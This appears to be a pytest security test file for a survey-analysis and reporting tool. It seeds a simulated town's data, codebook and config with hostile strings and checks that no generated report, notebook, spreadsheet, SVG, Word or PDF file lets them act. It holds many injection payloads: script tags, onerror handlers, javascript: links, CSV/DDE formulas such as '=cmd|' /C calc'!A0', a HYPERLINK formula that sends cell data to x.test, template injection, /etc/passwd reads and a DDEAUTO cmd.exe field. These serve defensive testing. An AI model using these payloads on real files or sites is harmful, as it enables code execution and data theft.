"""Text that somebody typed into a survey, a codebook or params acts nowhere: not as HTML, formula, field or template.

One town whose raw files, codebook, params and claims are full of what acts elsewhere is run by the command line; then
every file that came out of it is read by a parser of its kind.
"""

from __future__ import annotations

import base64
import csv
import fcntl
import hashlib
import json
import re
import shutil
import zipfile
import zlib
from collections.abc import Callable
from concurrent.futures import ThreadPoolExecutor
from functools import cache
from itertools import count
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

import docx
import numpy as np
import openpyxl
import pandas as pd
import pytest
from bs4 import BeautifulSoup
from lxml import etree
from runs import ROOT, lbc, scratch, shared
from tiny import edit

from lbc import params
from lbc.errors import UserError
from lbc.paths import Project
from lbc.pipeline import frames
from lbc.reporting import claims
from lbc.results import Shown

TOWN = "hostile"
ALL_RAN = "5 run, 0 current, 0 failed, 0 blocked\n"
LONG = "很长" * 2500
SHEET = "=<lbc-evil>{{7+7}}"
NAMES = ("王小明", "李婷婷", "欧阳雪")  # of the class list, in a column that identifies directly
ACTS = (
    "<script>alert(1)</script>", "=cmd|' /C calc'!A0", "=HYPERLINK(\"http://x.test/?\"&A1)", "T{{7*7}}T", "{% raw %}",
    "{cleaning.flow:n}", "\"><img src=x onerror=alert(1)>", "[x](javascript:alert(1))", "![x](http://x.test/a.png)",
    "<javascript:alert(1)>", "$\\input{/etc/passwd}$", "@SUM(1+1)", "+1", "-1", "=1", "\N{FULLWIDTH EQUALS SIGN}1+1",
    "../../etc/passwd", "%s%n", "{0.__class__}", "T${7*7}T", "--><script>alert(1)</script>",
    "</title></style><lbc-evil onclick=alert(1)>", "&lt;lbc-evil&gt;", "</script><svg onload=alert(1)>",
)
"""What acts somewhere. `lbc-evil` is an element that no page has; T49T is what a template makes of two of them."""
UNSEEN = ("a\x07b\x1b[31mc", "a\u202ecod.exe", "a\u2066b\u2069", "a\u200bb", "a\x7fb\x9bc")
PLAIN = tuple(text for text in ACTS if not re.search(r"[|;{}]", text))
"""Those that a codebook's cell or a claim's sentence can hold: | ; and { } mean something there."""


# ---- making the town ----------------------------------------------------------------------------------------------


class Sower:
    """Hands out hostile texts by turns, each with the name of its place, by which it is found again."""

    def __init__(self, texts: tuple[str, ...]) -> None:
        self.texts, self.turn = texts, count()

    def __call__(self, place: str) -> str:
        return f"{self.texts[next(self.turn) % len(self.texts)]} {place}"


def sow(root: Path) -> None:
    """Replace what people may write freely in every file of the town by what acts elsewhere."""
    data = root / "data" / TOWN
    renamed = _codes(data / "raw")
    for file in sorted((data / "raw").glob("*.csv")):
        if file.name != "resurvey.csv":
            _csv(file, renamed)
    _again(data / "raw/resurvey.csv")
    _survey(data / "raw/survey.xlsx")
    _codebook(data / "codebook.csv")
    _params(root / f"params/{TOWN}.yaml", renamed)
    _claims(root / f"params/{TOWN}.claims.yaml")


def _rows(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8-sig", newline="") as file:
        return list(csv.reader(file))


def _write(path: Path, rows: list[list[str]], encoding: str = "utf-8-sig") -> None:
    with path.open("w", encoding=encoding, newline="") as file:
        csv.writer(file).writerows(rows)


def _codes(raw: Path) -> dict[str, str]:
    """New names of members, themes, components, coders, waves, columns: the same in every file and in params."""
    coded = {"interviews.csv": ("theme", "coder", "person"), "sessions.csv": ("member", "component"),
             "observations.csv": ("rater",), "group_measures.csv": ("wave",), "case_log.csv": ("phase",)}
    found: dict[str, str] = {}
    sower = Sower(PLAIN)
    for name, columns in coded.items():
        header, *rows = _rows(raw / name)
        for column in columns:
            for row in rows:
                code = row[header.index(column)]
                if code not in found:
                    found[code] = sower(code)
    for column in ("loneliness", "negative_emotion", "contacts", "joins_in", "offers_help"):
        found[column] = sower(column)
    return found


def _csv(path: Path, renamed: dict[str, str]) -> None:
    """Codes by their new names; every free text another one."""
    free = {"paraphrase", "paraphrase_zh", "goal_en", "goal_zh", "cause_zh", "need", "need_zh", "component_en",
            "component_zh"}
    header, *rows = _rows(path)
    once: dict[str, str] = {}
    sower, unseen = Sower(ACTS), Sower(UNSEEN)
    for row in rows:
        for k, name in enumerate(header):
            if name in free and row[k]:
                one = unseen if len(once) % 5 == 4 else sower
                row[k] = once.setdefault(row[k], one(f"{path.stem}-{name}-{len(once)}"))
            elif name not in ("id", "session", "measure", "level"):
                row[k] = renamed.get(row[k], row[k])
    if "paraphrase" in header:
        rows[0][header.index("paraphrase")] = rows[1][header.index("paraphrase")] = LONG
    _write(path, [[renamed.get(name, name) for name in header], *rows])


def _again(path: Path) -> None:
    """The re-survey, GBK as Excel saves it: a hostile column more."""
    with path.open(encoding="gb18030", newline="") as file:
        header, *rows = csv.reader(file)
    sower = Sower(tuple(text for text in ACTS if text.isascii()))
    _write(path, [[*header, "<lbc-evil>备注"], *([*row, sower("再测")] for row in rows)], "gb18030")


def _survey(path: Path) -> None:
    """Comments, classes, cells that map to no option, an internet address, names, a header and sheets that act."""
    book = openpyxl.load_workbook(path)
    sheet = book.active
    header = [cell.value for cell in sheet[1]]
    last, texts = len(header), Sower((*ACTS, "a\u202ecod.exe", "a\u200bb", LONG, "\t=1"))
    for k in range(2, sheet.max_row + 1):
        if sheet.cell(k, 1).value is None:
            continue
        place = {name: sheet.cell(k, header.index(name) + 1) for name in header if name}
        _put(place["114、还有什么想告诉我们的吗[填空题]"], f"{texts('comment')} CANARY-TEXT-{k}")
        _put(place["来自IP"], f"CANARY-IP-{k}")
        _put(place["来源详情"], f"=CANARY-SOURCE-{k}")
        lesson = place["3、你的班级代码（见卡片）[填空题]"]
        _put(lesson, f"{PLAIN[len(lesson.value or '') % 3]} {lesson.value}")
        if k % 10 == 0:
            _put(place["18、你平时住校吗[单选题]"], f"{texts('boarding')} CANARY-OPTION-{k}")
            _put(place["28、你有几个好朋友[填空题]"], texts("friends"))
        _put(sheet.cell(k, last + 1), texts("unknown column"))
        _put(sheet.cell(k, last + 2), NAMES[k % len(NAMES)])
    _put(sheet.cell(1, last + 1), "=1+1 <script>alert(1)</script> \u202e{{7*7}}")
    sheet.cell(1, last + 2).value = "你的姓名"
    sheet.title = SHEET
    book.create_sheet("<img onerror=alert(1)>").cell(1, 1).value = "other"
    book.save(path)


def _put(cell: Any, text: str) -> None:
    """Text as text: openpyxl would make a formula of what begins with =."""
    cell.value = text
    cell.data_type = "s"


def _codebook(path: Path) -> None:
    """Every question and the first label of every option in both languages."""
    header, *rows = _rows(path)
    question, label = Sower((*PLAIN, "a\u202ecod.exe", "a\x1b[31mb")), Sower(PLAIN)
    for row in rows:
        cell = dict(zip(header, row, strict=True))
        cell["question_en"], cell["question_zh"] = question(cell["variable"]), question(f"题目{cell['variable']}")
        if cell["type"] in ("choice", "number") and "=" in cell["values"]:
            cell["values"] = ";".join(_labelled(part, label, cell["variable"]) for part in cell["values"].split(";"))
        row[:] = cell.values()
    named = dict.fromkeys(header, "") | {"variable": "child_name", "column": "你的姓名", "type": "text",
                                         "identifies": "direct"}
    _write(path, [header, *rows, list(named.values())])


def _labelled(part: str, label: Sower, variable: str) -> str:
    code, equals, texts = part.partition("=")
    return f"{code}={label(f'{variable} {code}')}|{label(f'选项{variable}{code}')}|{texts}" if equals else part


def _yaml(path: Path) -> tuple[Any, Any]:
    from ruamel.yaml import YAML

    yaml = YAML()
    yaml.preserve_quotes, yaml.width = True, 10**6
    return yaml, yaml.load(path)


def _params(path: Path, renamed: dict[str, str]) -> None:
    yaml, town = _yaml(path)
    sower = Sower(ACTS)
    town["name"] = {"en": f"=1+1 {''.join(ACTS)} town", "zh": f"+1 {''.join(ACTS)} 镇"}
    town["survey"]["sheet"] = SHEET
    work, comparison = town["intervention"], town["comparison"]
    named = [*comparison["contrasts"], *town["ecology"]["mediations"], *town["ecology"]["moderations"],
             *town["interviews"]["joint"]]
    for entry in named:
        entry["label"] = {"en": sower(f"label {entry.get('id', 'theme')}"), "zh": sower(f"标签{entry.get('id', '')}")}
    for theme in town["interviews"]["joint"]:
        theme["theme"] = renamed.get(theme["theme"], theme["theme"])
    sets = comparison["specifications"]["covariates"]
    comparison["specifications"] |= {
        "covariates": {sower(name): list(sets[name]) for name in ("none", "all")}, "exclusions": [2],
        "missing": ["person_mean"], "scoring": ["total"], "estimators": ["welch", "ols"], "permutations": 99}
    for key in ("retest", "reliability"):
        work[key]["source"] = sower(f"source of {key}")
    case = work["case"]
    case["rule"] = {"en": sower("rule"), "zh": sower("规则")}
    case["phases"] = {renamed[code]: {"en": sower(f"phase {code}"), "zh": sower(f"阶段{code}")} for code in "ABC"}
    case |= {"member": renamed[case["member"]], "baseline": renamed[case["baseline"]],
             "outcome": renamed[case["outcome"]], "others": [renamed[name] for name in case["others"]],
             "counts": {renamed[name]: way for name, way in case["counts"].items()}}
    work["low_peer"] = renamed[work["low_peer"]]
    waves, dates = work["waves"], work["waves"].pop("dates")
    work["waves"] = {key: renamed[wave] for key, wave in waves.items()} | {
        "dates": {renamed[wave]: day for wave, day in dates.items()}}
    for release in town["privacy"]["release"]:
        release["reason"] = sower("reason of the release")
    town["cleaning"]["imputations"] = 2
    town["measurement"] = {"parallel_draws": 20}
    town["ecology"]["bootstrap"] = town["interviews"]["bootstrap"] = 100
    yaml.dump(town, path)


def _claims(path: Path) -> None:
    yaml, file = _yaml(path)
    sower = Sower(PLAIN)
    for claim in file["claims"]:
        for part in ("sentence", "note"):
            if part in claim:
                claim[part] = {lang: f"{sower(claim['id'])} {text}" for lang, text in claim[part].items()}
    yaml.dump(file, path)


# ---- reading what came out ----------------------------------------------------------------------------------------

LIVE = ("script", "iframe", "object", "embed", "base", "form", "link", "foreignobject", "animate", "set", "lbc-evil")
SAFE_DATA = re.compile(r"data:(image/(png|svg\+xml)|text/csv)[;,]")
FORMULA = ("=", "+", "-", "@", "\t", "\r", "\n", *"\N{FULLWIDTH EQUALS SIGN}\N{FULLWIDTH PLUS SIGN}"
           "\N{FULLWIDTH HYPHEN-MINUS}\N{FULLWIDTH COMMERCIAL AT}")
NUMBER = re.compile(r"[-+]?(\d+\.?\d*|\.\d+)(e[-+]?\d+)?", re.I)
W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
CONTROL = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f\u200b\u202a-\u202e\u2066-\u2069]")
FIELDS = re.compile(r"\s*(PAGE|NUMPAGES|TOC|SEQ|REF|PAGEREF|STYLEREF)\b[^<>{}]*")
"""Fields of Word that only count and point within the document."""
MADE_BY_A_TEMPLATE = ("T49T", "<class '", "root:x:0:0", "lbc-evil>14")


def alive(html: str) -> list[str]:
    """What would act in a page, as two parsers read it; a script only where the page's policy names its hash."""
    found = []
    for parser in ("html.parser", "lxml"):
        soup = BeautifulSoup(html, parser)
        policy = soup.find("meta", attrs={"http-equiv": re.compile("content-security-policy", re.I)})
        allowed = re.findall(r"'sha256-([^']+)'", policy["content"]) if policy else []
        for tag in soup.find_all(True):
            own = tag.name == "script" and not tag.attrs and _sha256(tag.string or "") in allowed
            if (tag.name.lower() in LIVE or (tag.name == "meta" and "refresh" in str(tag.attrs).lower())) and not own:
                found.append(str(tag)[:80])
            found += [f"{tag.name} {name}" for name in tag.attrs if name.lower().startswith("on")]
            found += [f"{tag.name} {name}={str(value)[:60]}" for name, value in tag.attrs.items()
                      if name.lower() in ("href", "src", "srcset", "action", "formaction", "xlink:href", "poster")
                      and not _stays(str(value))]
    return found


def _stays(address: str) -> bool:
    """Whether a link or picture stays within the report."""
    address = re.sub(r"[\x00-\x20]", "", address)
    if address.startswith("data:"):
        return SAFE_DATA.match(address) is not None
    return urlsplit(address).scheme == "" and not address.startswith("//")


def _sha256(text: str) -> str:
    return base64.b64encode(hashlib.sha256(text.encode()).digest()).decode()


@cache
def alive_in_markdown(text: str) -> list[str]:
    """What would act once nbconvert, which takes links and HTML as Jupyter does, has made a page of it."""
    return alive(_html(text))


def _html(markdown: str) -> str:
    from nbconvert.filters import markdown2html

    return str(markdown2html(markdown))


def alive_in_notebook(path: Path) -> list[str]:
    found = []
    for cell in json.loads(path.read_text(encoding="utf-8"))["cells"]:
        for output in cell.get("outputs", []):
            for mime, content in output.get("data", {}).items():
                if mime not in ("text/plain", "text/markdown", "text/html", "image/png"):
                    found.append(f"an output of the kind {mime}")
                read = {"text/markdown": alive_in_markdown, "text/html": alive}.get(mime)
                found += read("".join(content)) if read else []
    return found


def runs_in_excel(cell: str) -> bool:
    """Whether a cell of a CSV file begins a formula; a number and a dash alone do not."""
    return len(cell) > 1 and cell.startswith(FORMULA) and not NUMBER.fullmatch(cell)


def formulas(path: Path) -> list[str]:
    """Cells that a spreadsheet would run."""
    if path.suffix == ".csv":
        return [cell[:60] for row in _rows(path) for cell in row if runs_in_excel(cell)]
    sheets = openpyxl.load_workbook(path).worksheets
    return [str(cell.value)[:60] for sheet in sheets for row in sheet.iter_rows() for cell in row
            if cell.data_type == "f"]


def alive_in_svg(path: Path) -> list[str]:
    root = etree.fromstring(path.read_bytes(), etree.XMLParser(resolve_entities=False, no_network=True))
    found = []
    for element in root.iter(etree.Element):
        name = etree.QName(element).localname.lower()
        found += [name] if name in LIVE else []
        found += [f"{name} {key}" for key in element.attrib if etree.QName(key).localname.startswith("on")]
        found += [f"{name} {value[:60]}" for key, value in element.attrib.items()
                  if etree.QName(key).localname == "href" and not _stays(value)]
    return found


def alive_in_docx(path: Path) -> list[str]:
    found = []
    with zipfile.ZipFile(path) as parts:
        for name in parts.namelist():
            if not name.endswith((".xml", ".rels")):
                continue
            root = etree.fromstring(parts.read(name), etree.XMLParser(resolve_entities=False, no_network=True))
            for element in root.iter(etree.Element):
                kind = etree.QName(element).localname
                if kind == "instrText" and not FIELDS.fullmatch(element.text or ""):
                    found.append(f"{name}: field {element.text}")
                if kind == "fldSimple" and not FIELDS.fullmatch(element.get(next(iter(element.keys())), "")):
                    found.append(f"{name}: field {dict(element.attrib)}")
                if kind == "Relationship" and element.get("TargetMode") == "External":
                    found.append(f"{name}: link to {element.get('Target')}")
                if kind in ("altChunk", "object", "OLEObject"):
                    found.append(f"{name}: {kind}")
    return found


def text_of_docx(path: Path) -> str:
    document = docx.Document(str(path))
    return "\n".join("".join(node.text or "" for node in paragraph.iter() if etree.QName(node).localname == "t")
                     for paragraph in document.element.body.iter() if etree.QName(paragraph).localname == "p")


def alive_in_pdf(path: Path) -> list[str]:
    """Names of what acts in a PDF; matplotlib writes none of them."""
    raw = path.read_bytes()
    for stream in re.findall(rb"stream\r?\n(.*?)endstream", raw, re.S):
        try:
            raw += zlib.decompress(stream)
        except zlib.error:
            continue
    return [name.decode() for name in (b"/JavaScript", b"/JS ", b"/OpenAction", b"/URI", b"/Launch") if name in raw]


def readable(path: Path) -> str:
    """Everything that a file says; of a page, what its reader sees."""
    if path.suffix == ".docx":
        return text_of_docx(path)
    text = path.read_text(encoding="utf-8-sig")
    if path.suffix == ".html":
        return BeautifulSoup(text, "lxml").get_text()
    if path.suffix == ".ipynb":
        outputs = [output for cell in json.loads(text)["cells"] for output in cell.get("outputs", [])]
        return "\n".join("".join(output.get("data", {}).get("text/plain", "")) for output in outputs)
    return text


def tables_in(page: Path) -> list[str]:
    """The CSV files that a page offers for download."""
    found = re.findall(r"data:text/csv[^,]*;base64,([\w+/=]+)", page.read_text(encoding="utf-8"))
    return [base64.b64decode(body).decode("utf-8-sig") for body in found]


def alive_in_page(path: Path) -> list[str]:
    rows = [row for text in tables_in(path) for row in csv.reader(text.splitlines())]
    return alive(path.read_text(encoding="utf-8")) + [cell for row in rows for cell in row if runs_in_excel(cell)]


READERS: dict[str, Callable[[Path], list[str]]] = {
    ".html": alive_in_page, ".ipynb": alive_in_notebook, ".csv": formulas, ".xlsx": formulas, ".svg": alive_in_svg,
    ".docx": alive_in_docx, ".pdf": alive_in_pdf, ".json": lambda path: [], ".png": lambda path: [],
}


# ---- the town, once -----------------------------------------------------------------------------------------------


def make(root: Path) -> dict[str, Any]:
    said: dict[str, Any] = {}

    def ask(*arguments: str) -> None:
        done = lbc(root, *arguments)
        said[arguments[0] + " " + arguments[2]] = [done.returncode, done.stdout, done.stderr]

    ask("simulate", "--town", TOWN, "--children", "60", "--seed", "5")
    sow(root)
    ask("check", "--town", TOWN)
    ask("run", "--town", TOWN)

    def draft(town: str, file: Path) -> None:
        ask("new-town", "--town", town, "--data", str(file))
        ask("check", "--town", town)

    with ThreadPoolExecutor(2) as pool:
        list(pool.map(lambda asked: asked[0](*asked[1:]),
                      [(ask, "report", "--town", TOWN), *((draft, *export) for export in _exports(root).items())]))
    return said


def _exports(root: Path) -> dict[str, Path]:
    """The town's survey as three kinds of file, some of its headers hostile, under a hostile name."""
    sheet = openpyxl.load_workbook(root / "data" / TOWN / "raw/survey.xlsx").worksheets[0]
    rows = [["" if value is None else str(value) for value in row] for row in sheet.iter_rows(values_only=True)]
    rows[0] = [f"{ACTS[k % len(ACTS)]}{text}" if k in (16, 22, 23, 24, 25) else text for k, text in enumerate(rows[0])]
    rows[0][26] += "\x1b[2J\u202e"
    utf8, gbk, xlsx = (root / f"=cmd 'C' <lbc-evil>\x1b[31m{kind}" for kind in (".csv", " gbk.csv", ".xlsx"))
    _write(utf8, rows)
    _write(gbk, [[text.encode("gb18030", "ignore").decode("gb18030") for text in row] for row in rows], "gb18030")
    book = openpyxl.Workbook()
    for k, row in enumerate(rows, start=1):
        for j, text in enumerate(row, start=1):
            _put(book.active.cell(k, j), text.replace("\x1b", ""))  # no workbook can hold it
    book.save(xlsx)
    return {"drafted_utf8": utf8, "drafted_gbk": gbk, "drafted_xlsx": xlsx}


@pytest.fixture(scope="session")
def root(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A project with the hostile town, run and reported, and three towns drafted from its survey."""
    folder, lock = shared(tmp_path_factory, "hostile")
    record = folder / "said.json"
    with lock.open("w", encoding="utf-8") as handle:
        fcntl.flock(handle, fcntl.LOCK_EX)
        if not record.exists():
            record.write_text(json.dumps(make(scratch(folder))), encoding="utf-8")
    return folder


@pytest.fixture
def said(root: Path) -> dict[str, Any]:
    """Exit code, standard output and standard error of every command."""
    return json.loads((root / "said.json").read_text(encoding="utf-8"))


def files(root: Path, *suffixes: str, private: bool = True) -> list[Path]:
    found = [path for path in sorted((root / "outputs").rglob("*")) if path.suffix in suffixes and path.is_file()]
    return [path for path in found if private or "private" not in path.parts]


# ---- what must hold -----------------------------------------------------------------------------------------------


def test_the_town_runs_as_any_other(said: dict[str, Any]) -> None:
    assert said[f"check {TOWN}"][0] == 0
    assert said[f"run {TOWN}"][:2] == [0, ALL_RAN], said[f"run {TOWN}"][2]
    code, told, errors = said[f"report {TOWN}"]
    assert code in (0, 1), errors  # 1: a printed statistic does not follow from the others, which is no matter here
    assert f"outputs/{TOWN}/report/index.html" in told


def test_every_kind_of_file_that_is_written_is_read_here(root: Path) -> None:
    written = {path.suffix for path in (root / "outputs").rglob("*") if path.is_file() and not path.name.startswith(".")}
    assert {".html", ".ipynb", ".csv", ".svg", ".docx", ".pdf", ".json"} <= written <= set(READERS)


@pytest.mark.parametrize("suffix", [".html", ".ipynb", ".csv", ".svg", ".docx", ".pdf"])
def test_no_text_acts(root: Path, suffix: str) -> None:
    found = {path.relative_to(root).as_posix(): READERS[suffix](path) for path in files(root, suffix)}
    assert {name: acting[:5] for name, acting in found.items() if acting} == {}


def test_no_text_is_filled_in_or_steers_a_terminal(root: Path) -> None:
    for path in files(root, ".html", ".ipynb", ".csv", ".svg", ".docx", ".json"):
        text = path.read_text(encoding="utf-8") if path.suffix in (".html", ".ipynb") else readable(path)
        assert [made for made in MADE_BY_A_TEMPLATE if made in text] == [], path
        assert CONTROL.findall(text) == [], path


@pytest.mark.parametrize("where", ["report/*.html", "report/zh/*.html", "thesis/results_*.docx", "notebooks/*.ipynb"])
def test_every_text_is_there_to_read_as_it_was_typed(root: Path, where: str) -> None:
    """So that the tests above have something to find: the town's name holds every one of them."""
    pages = sorted((root / "outputs" / TOWN).glob(where))
    assert pages
    for page in pages:
        assert "".join(ACTS) in readable(page), page


def test_names_codebook_interviews_goals_and_claims_are_there_to_read(root: Path) -> None:
    text = "\n".join(readable(path) for path in files(root, ".html", private=False))
    for place in ("label theme", "label home", "rule", "source of retest", "shyness", "lonelier", "reason of the release",
                  "goals-goal_en", "interviews-paraphrase", "logic_model-need", "logic_model-component_en"):
        assert f" {place}" in text, place


def test_who_a_child_is_stays_private(root: Path) -> None:
    """Columns that identify directly, free text and ids; also within the files that the pages offer."""
    sheet = openpyxl.load_workbook(root / "data" / TOWN / "raw/survey.xlsx").worksheets[0]
    ids = {str(row[6]) for row in sheet.iter_rows(min_row=2, values_only=True) if re.fullmatch(r"A\d{4}", str(row[6]))}
    assert len(ids) > 50

    def told(text: str) -> set[str]:
        text = re.sub(r"[A-Za-z0-9+/=]{200,}", "", text)  # pictures, where such letters stand by chance
        return {secret for secret in ("CANARY-", "192.0.2", *NAMES) if secret in text} | {
            id for id in re.findall(r"\bA\d{4}\b", text) if id in ids}

    for path in files(root, ".html", ".ipynb", ".csv", ".svg", ".docx", ".json", private=False):
        texts = [path.read_text(encoding="utf-8") if path.suffix != ".docx" else readable(path)]
        texts += tables_in(path) if path.suffix == ".html" else []
        assert set().union(*map(told, texts)) == set(), path
    assert told((root / "outputs" / TOWN / "private/data/01_survey_cleaning/cleaned.csv").read_text(encoding="utf-8"))


@pytest.mark.parametrize("town", ["drafted_utf8", "drafted_gbk", "drafted_xlsx"])
def test_a_draft_holds_no_formula_and_reads_the_columns_all_the_same(
    root: Path, said: dict[str, Any], town: str
) -> None:
    code, told, errors = said[f"new-town {town}"]
    assert code == 0, errors
    drafts = [root / f"params/{town}.yaml", root / f"data/{town}/codebook.csv"]
    for text in (told, *(draft.read_text(encoding="utf-8") for draft in drafts)):
        assert CONTROL.findall(text) == []
    assert formulas(drafts[1]) == []
    header, *rows = _rows(drafts[1])
    assert any(row[header.index("column")].startswith("'=1+1 <script>") for row in rows)
    code, told, errors = said[f"check {town}"]
    assert code == 0, errors
    assert "column not found" not in told
    assert [path.name for path in (root / f"data/{town}/raw").iterdir()] in (["survey.csv"], ["survey.xlsx"])


def test_no_message_steers_the_terminal(said: dict[str, Any]) -> None:
    for command, (_, told, errors) in said.items():
        assert CONTROL.findall(told + errors) == [], command


@pytest.mark.parametrize(("file", "old", "new", "complaint"), [
    ("yaml", "zh: S镇", 'zh: "S镇\\e[2J"', r"s_town.yaml:4: name.zh: holds an invisible character \(U\+001B\)"),
    ("yaml", "zh: S镇", "zh: S\u202e镇", r"s_town.yaml:4: name.zh: holds an invisible character \(U\+202E\)"),
    ("yaml", "zh: S镇", '"z\u200bh": S镇', r"s_town.yaml:4: name.zh: this key holds an invisible character"),
    ("claims.yaml", 'en: "', 'en: "{{7*7}} ', "a brace stands alone"),
    ("claims.yaml", 'en: "', 'en: "{% raw %} ', r"the hole \{% raw %\} cannot be read"),
])
def test_params_and_claims_hold_no_hidden_text_and_no_template(
    tmp_path: Path, file: str, old: str, new: str, complaint: str
) -> None:
    town = Project(tmp_path).town("s_town")
    town.params.parent.mkdir()
    for kind in ("yaml", "claims.yaml"):
        shutil.copy(ROOT / f"params/s_town.{kind}", town.params.parent)
    edit(tmp_path / f"params/s_town.{file}", old, new)
    with pytest.raises(UserError, match=complaint):
        claims.load(town.claims, "s_town.claims.yaml") if file == "claims.yaml" else params.load(town)


def test_a_zero_byte_ends_in_one_message(tmp_path: Path) -> None:
    root = scratch(tmp_path / "project")
    (tmp_path / "survey.csv").write_bytes("编号,年级\nA1,\0三\n".encode())
    done = lbc(root, "new-town", "--town", "x", "--data", str(tmp_path / "survey.csv"))
    assert (done.returncode, "Traceback" in done.stderr, "encoding cannot be told" in done.stderr) == (2, False, True)


def test_what_is_kept_between_stages_is_no_formula_in_excel_and_comes_back_equal(tmp_path: Path) -> None:
    texts = [*ACTS, "'=1", "'", "-", "'quoted'", "-1.5", LONG, np.nan]
    frame = pd.DataFrame({"=1+1": texts, "x": pd.Categorical(texts), "-n": np.arange(len(texts)) - 5.0})
    frames.keep(frame, tmp_path / "kept")
    assert formulas(tmp_path / "kept.csv") == []
    pd.testing.assert_frame_equal(frames.load(tmp_path / "kept"), frame)


@pytest.mark.parametrize("text", ACTS)
def test_a_computed_sentence_cannot_act_in_jupyter(text: str) -> None:
    words = f"{text}: difference = 3.2, 95% CI [1.0, 5.4], p < .001. **Bold** {text}\n\n{text}"
    data, _ = Shown({"en": words, "zh": words}, "en")._repr_mimebundle_()
    assert alive_in_markdown(data["text/markdown"]) == []
    assert "<strong>Bold</strong>" in _html(data["text/markdown"])
    assert data["text/plain"] == words


def test_a_message_shows_what_a_terminal_would_obey() -> None:
    assert str(UserError("found '\x1b[2J\u202e'", "\x07.csv")) == r"\x07.csv: found '\x1b[2J\u202e'"


@pytest.mark.parametrize("html", [
    "<p><script>alert(1)</script>", '<img src="x" onerror="alert(1)">', '<a href=" java\tscript:alert(1)">x</a>',
    '<a href="http://x.test">x</a>', "<lbc-evil>", '<iframe srcdoc="x">', '<a href="data:text/html,x">',
    '<meta http-equiv="refresh" content="0;url=http://x.test">', "<svg><foreignObject>",
    """<meta http-equiv="Content-Security-Policy" content="script-src 'sha256-AAAA'"><script>alert(1)</script>""",
])
def test_the_reader_of_pages_sees_what_acts(html: str) -> None:
    assert alive(html)


def test_the_readers_of_other_files_see_what_acts(tmp_path: Path) -> None:
    assert alive_in_markdown("[x](javascript:alert(1)) <lbc-evil>")
    assert alive_in_markdown("![x](http://x.test/a.png)")
    _write(tmp_path / "a.csv", [["a", "b"], ["-1.5e3", "=1+1"]])
    assert formulas(tmp_path / "a.csv") == ["=1+1"]
    book = openpyxl.Workbook()
    book.active.append(["=1+1", "a"])
    book.save(tmp_path / "a.xlsx")
    assert formulas(tmp_path / "a.xlsx") == ["=1+1"]
    svg = '<svg xmlns="http://www.w3.org/2000/svg"><g onload="x"/><script/></svg>'
    (tmp_path / "a.svg").write_text(svg, encoding="utf-8")
    assert alive_in_svg(tmp_path / "a.svg") == ["g onload", "script"]
    document = docx.Document()
    field = etree.SubElement(document.add_paragraph("x").add_run()._r, f"{{{W}}}instrText")
    field.text = " DDEAUTO c:\\\\cmd.exe "
    document.part.relate_to("http://x.test", "http://x.test/hyperlink", is_external=True)
    document.save(str(tmp_path / "a.docx"))
    assert len(alive_in_docx(tmp_path / "a.docx")) == 2
    (tmp_path / "a.pdf").write_bytes(b"stream\n" + zlib.compress(b"<</S /JavaScript>>") + b"\nendstream")
    assert alive_in_pdf(tmp_path / "a.pdf") == ["/JavaScript"]
